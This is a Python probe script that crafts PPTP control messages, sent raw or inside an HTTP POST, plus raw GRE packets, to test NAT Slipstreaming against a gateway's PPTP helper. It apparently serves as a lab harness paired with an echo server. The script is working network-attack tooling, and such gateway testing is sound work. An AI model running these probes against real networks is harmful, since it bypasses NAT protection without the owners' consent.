#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""pptpslip.py - NAT Slipstreaming probes against a PPTP helper (stdlib only).

  client HOST PORT CALLID MODE
      Opens a TCP connection to HOST:PORT (a web port, not 1723) and sends,
      each in its own segment (TCP_NODELAY and a pause between them), well-
      formed PPTP Start-Control-Connection-Request and Outgoing-Call-Request
      messages announcing call id CALLID. MODE "start": the PPTP messages are
      the connection's first bytes; "body": they follow an HTTP POST header,
      as a web page's form would place them. Reads back what the server
      (tcpecho.py) echoed and checks it is byte for byte what was sent, so
      the stream crossed the gateway unmodified. Prints
      "seen ADDR:PORT sent N echoed M ok|bad".
  gre HOST CALLID COUNT
      Sends COUNT enhanced GRE (version 1) packets carrying a PPP LCP echo to
      HOST with key call id CALLID, 0.1 s apart, as the PPTP server of that
      announced call would. Prints "sent N".
"""
import socket
import struct
import sys
import time

MAGIC = 0x1A2B3C4D


def sccrq():
    body = struct.pack("!HHHHIIHH64s64s", 1, 0, 0x0100, 0, 1, 1, 1, 1,
                       b"slipstream", b"web page")
    msg = struct.pack("!HHI", 12 + len(body), 1, MAGIC) + body
    assert len(msg) == 156
    return msg


def ocrq(call_id):
    body = struct.pack("!HHHHIIIIHHHH64s64s", 7, 0, call_id, 1, 300, 100000000,
                       3, 3, 64, 0, 0, 0, b"", b"")
    msg = struct.pack("!HHI", 12 + len(body), 1, MAGIC) + body
    assert len(msg) == 168
    return msg


def client(host, port, call_id, mode):
    parts = [sccrq(), ocrq(call_id)]
    if mode == "body":
        n = sum(len(p) for p in parts)
        parts.insert(0, (f"POST /upload HTTP/1.1\r\nHost: {host}\r\n"
                         f"Content-Length: {n}\r\n\r\n").encode())
    s = socket.create_connection((host, port), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    f = s.makefile("rb")
    seen = f.readline().decode().split()[-1]
    sent = b""
    for p in parts:
        s.sendall(p)
        sent += p
        time.sleep(0.3)
    echoed = b""
    while len(echoed) < len(sent):
        chunk = f.read1(65536)
        if not chunk:
            break
        echoed += chunk
    s.close()
    ok = "ok" if echoed == sent else "bad"
    print(f"seen {seen} sent {len(sent)} echoed {len(echoed)} {ok}", flush=True)
    return 0 if ok == "ok" else 1


def gre(host, call_id, count):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_GRE)
    # PPP in HDLC-less form: address/control, LCP echo request.
    ppp = b"\xff\x03" + struct.pack("!HBBH", 0xC021, 9, 1, 12) + b"\0\0\0\0pgsl"
    for seq in range(count):
        # Key and sequence present, version 1, protocol PPP.
        hdr = struct.pack("!HHHHI", 0x3001, 0x880B, len(ppp), call_id, seq)
        s.sendto(hdr + ppp, (host, 0))
        time.sleep(0.1)
    print(f"sent {count}", flush=True)
    return 0


def main(argv):
    if len(argv) == 5 and argv[0] == "client":
        return client(argv[1], int(argv[2]), int(argv[3]), argv[4])
    if len(argv) == 4 and argv[0] == "gre":
        return gre(argv[1], int(argv[2]), int(argv[3]))
    print(__doc__, file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
